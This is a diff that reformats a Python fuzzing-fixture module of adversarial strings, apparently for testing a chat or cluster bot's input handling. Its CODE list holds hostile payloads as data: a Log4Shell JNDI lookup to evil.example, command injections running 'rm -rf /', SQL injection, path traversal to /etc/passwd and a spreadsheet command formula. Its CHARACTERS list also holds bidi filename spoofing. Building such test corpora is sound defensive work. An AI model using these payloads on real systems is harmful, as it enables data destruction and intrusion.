@@ -1,4 +1,4 @@
-"""Strings that a cluster might hold to ping, disguise, run, forge or break; each class several times."""
+"""Strings that a cluster might hold to ping, disguise, run, forge or break, class by class."""
 
 MENTIONS = [
     "<!channel>", "<!here>", "<!everyone>", "<!subteam^S123|ops>", "<@U12345678>", "<@W1|anna>",
@@ -40,7 +40,8 @@ LINES = [
 ]  # fmt: skip
 CHARACTERS = [
     "\0", "a\0b", "\x01\x02\x03\x04", "\x7f", "\x80\x9f", "\ud800", "a\udfffb", "\udcff\udcfe",
-    "\ufffe\uffff", "\ufeffa", "gpu\u200b-07", "gpu\u200d-07", "\u202egpj.exe\u202c", "\u2066a\u2069",
+    "\ufffe\uffff", "\ufeffa", "gpu\u200b-07", "gpu\u200d-07", "\u202egpj.exe\u202c",
+    "\u2066a\u2069",
     "\u200f\u200e\u061c", "\u2067evil\u2066", "a\u00adb", "\u3164", "\u115f\u1160", "\U000e0041",
     "\ufff9a\ufffab\ufffb", "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a",
     "e\u0301", "\u17b4\u17b5", "\u180e", "\ufe0f", "\u2800",
@@ -54,14 +55,18 @@ CODE = [
     "{{ 7 * 7 }}", "{% for i in range(10**9) %}{% endfor %}", "{{ ''.__class__.__mro__ }}",
     "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7 %>", "{0.__class__}", "%(x)s", "%n%s%x", "{}",
     "{{ config }}", "{# comment", "{%", "%}", "$(rm -rf /)", "`rm -rf /`", "; rm -rf / #", "&& x",
-    "' OR 1=1 --", '"; DROP TABLE x; --', "../../etc/passwd", '{"a": "b"}', '"', "'", '","x":"', "\\u0000",
+    "' OR 1=1 --", '"; DROP TABLE x; --', "../../etc/passwd", '{"a": "b"}', '"', "'", '","x":"',
+    "\\u0000",
     "\\n", "\\", "null", "NaN", "-1", "-rf", "--exec=x", "=cmd|' /C calc'!A0", "+1", "!x", "*", "~",
 ]  # fmt: skip
 SPEECH = [
-    "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "日本語のタスク", "задача", "مهمة", "עברית", "Straße", "ﬁ", "½", "ｆｕｌｌ",
-    "नमस्ते", "می‌خواهم", ":smile:", ":100:", "10:30:45", "", " ", "\t", "a\tb", "  a  ", "…", "·",
+    "😀", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\U0001f3f3\ufe0f\u200d\U0001f308", "🇩🇪",
+    "日本語のタスク", "задача", "مهمة", "עברית", "Straße", "ﬁ", "½", "ｆｕｌｌ", "नमस्ते", "می\u200cخواهم",
+    ":smile:", ":100:", "10:30:45", "", " ", "\t", "a\tb", "  a  ", "…", "·",
 ]  # fmt: skip
-LONG = ["x" * 1_000_000, "word " * 200_000, "\n" * 100_000, "@all " * 50_000, "<" * 100_000,
-        "\u202e" * 100_000, "é" * 300, "😀" * 500, "[" * 5_000 + "](" * 5_000, "\x1b[" * 5_000]  # fmt: skip
+LONG = [
+    "x" * 1_000_000, "word " * 200_000, "\n" * 100_000, "@all " * 50_000, "<" * 100_000,
+    "\u202e" * 100_000, "é" * 300, "😀" * 500, "[" * 5_000 + "](" * 5_000, "\x1b[" * 5_000,
+]  # fmt: skip
 
 CORPUS = [*MENTIONS, *LINKS, *MARKUP, *LINES, *CHARACTERS, *TERMINAL, *CODE, *SPEECH, *LONG]
